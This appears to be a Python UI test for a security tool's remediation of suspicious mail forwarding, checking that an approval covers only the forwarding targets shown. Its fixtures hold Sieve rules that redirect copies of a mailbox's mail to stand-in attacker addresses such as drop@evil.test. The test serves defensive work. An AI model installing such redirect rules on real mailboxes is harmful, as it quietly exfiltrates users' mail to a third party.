# SPDX-License-Identifier: GPL-3.0-or-later
"""Mail forwarding in the window: where it goes, and that an approval holds for just that."""
import unittest

from case import WindowCase
from service import Service, wait_until

SCRIPT = b'require "copy";\nredirect :copy "drop@evil.test";\n'
MORE = SCRIPT + b'redirect :copy "second@evil.test";\n'


class Forwarding(WindowCase):
    messages = 0
    users = 2
    tap_class = "forwarding"

    def make_service(self):
        return Service(self.folder / f"service-{self._testMethodName}", groups={
            "mail": self.lab.mail_config(look_seconds=0),
            "forwarding": self.lab.forwarding_config()})

    def setUp(self):
        super().setUp()
        self.mailbox = self.lab.mailboxes[0]
        self.put(SCRIPT)
        self.action = self.service.post_investigation([{
            "type": "turnOffMailForwarding", "verdict": "suspicious", "reason": "The address is new.",
            "entity": {"type": "mailbox", "address": self.mailbox},
            "assets": [self.mailbox]}])["actions"][0]["id"]
        wait_until(lambda: self.service.action(self.action)["targets"].get("digest"), "the look")

    def put(self, script):
        with self.lab.sieve(self.mailbox) as client:
            client.put("main", script, active=True)

    def active(self):
        with self.lab.sieve(self.mailbox) as client:
            return client.active()

    def test_what_has_changed_since_is_shown_and_decided_on_anew(self):
        window = self.open()
        window.click_row(details=self.mailbox)
        window.wait_text("To 1 address outside, looked at")
        window.wait_text(f"{self.mailbox}: drop@evil.test", shown=False)
        window.calm()
        window.picture("forwarding-pending")
        self.put(MORE)
        window.click("button", "Approve")
        window.wait_text("addresses that were new: 1, and that were gone: 0")
        self.assertEqual("main", self.active())
        window.wait_text("To 2 addresses outside, looked at")
        window.wait_text(f"{self.mailbox}: second@evil.test", shown=False)
        window.calm()
        window.picture("forwarding-changed")
        window.click("button", "Approve")
        window.wait(lambda: self.active() == "action-center", "the forwarding to be turned off")
        window.wait(lambda: self.service.action(self.action)["status"] == "completed", "its end")


if __name__ == "__main__":
    unittest.main()
